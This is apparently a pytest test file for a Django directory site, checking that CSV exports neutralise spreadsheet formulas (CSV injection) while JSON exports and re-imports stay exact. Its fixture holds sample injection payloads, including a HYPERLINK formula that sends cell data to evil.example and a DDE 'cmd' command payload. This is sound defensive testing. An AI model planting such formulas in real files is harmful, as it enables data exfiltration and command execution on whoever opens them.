"""Spreadsheet formulas never leave the site in a CSV cell (OWASP "CSV injection"); JSON stays exact."""

import csv
import io
import json
import re

import pytest
from django.contrib.auth.models import User

from directory.exchange.importers import import_file
from directory.models import Organisation
from ess_site.spreadsheet import neutralise_cell
from tests.helpers.pages import add_page

FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")',
    "short_description": "+cmd|' /C calc'!A0",
    "address": "-2+3",
    "address_complement": "@SUM(1+1)*cmd|' /C calc'!A0",
    "city": "\t=1+1",
    "source": "\r=1+1",
    "source_id": "=2*3",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8")
    return response.content.decode("utf-8")


def formula_cells(text):
    """Cells a spreadsheet would read as formulas (negative plain numbers are numbers, not formulas)."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell[:1] in TRIGGERS and not re.fullmatch(r"-\d+(\.\d+)?", cell)]


@pytest.fixture
def hostile(demo_site):
    return Organisation.objects.create(postcode="13001", latitude=43.3, longitude=5.38, arrondissement=1, **FORMULAS)


def test_the_neutraliser_prefixes_every_trigger_and_leaves_the_rest():
    for value in FORMULAS.values():
        assert neutralise_cell(value) == "'" + value
    assert neutralise_cell("Recyclerie") == "Recyclerie"
    assert neutralise_cell("-5.36") == "-5.36"  # a plain number is no formula
    assert neutralise_cell(None) is None and neutralise_cell(12) == 12


def test_the_public_csv_export_has_no_formula_cell(client, hostile):
    text = body(client.get("/annuaire/export.csv"))
    assert "HYPERLINK" in text
    assert formula_cells(text) == []
    row = next(r for r in csv.DictReader(io.StringIO(text)) if "HYPERLINK" in r["nom"])
    assert row["nom"] == "'" + FORMULAS["name"] and row["adresse"] == "'-2+3"


def test_json_exports_stay_exact(client, hostile):
    features = json.loads(body(client.get("/annuaire/export.geojson")))["features"]
    properties = next(f["properties"] for f in features if "HYPERLINK" in f["properties"]["nom"])
    assert properties["nom"] == FORMULAS["name"] and properties["adresse"] == "-2+3"
    structures = json.loads(body(client.get("/annuaire/export/data-inclusion/structures.json")))
    assert any(s["nom"] == FORMULAS["name"] for s in structures)


def test_our_neutralised_export_imports_back_unchanged(client, hostile):
    report = import_file(body(client.get("/annuaire/export.csv")).encode())
    assert (report.created, report.updated, report.skipped) == (0, 0, 0)
    hostile.refresh_from_db()
    assert hostile.name == FORMULAS["name"] and hostile.address == "-2+3"


def test_the_admin_exports_have_no_formula_cell(client, hostile, home):
    add_page(home, '=HYPERLINK("https://evil.example/","page")')
    admin = User.objects.create_superuser("admin-csv", "admin@example.org", "x")
    client.force_login(admin)
    listing = body(client.get("/admin/directory/organisation/?export=csv"))
    assert "HYPERLINK" in listing and formula_cells(listing) == []
    history = body(client.get("/admin/reports/site-history/?export=csv"))
    assert "HYPERLINK" in history and formula_cells(history) == []
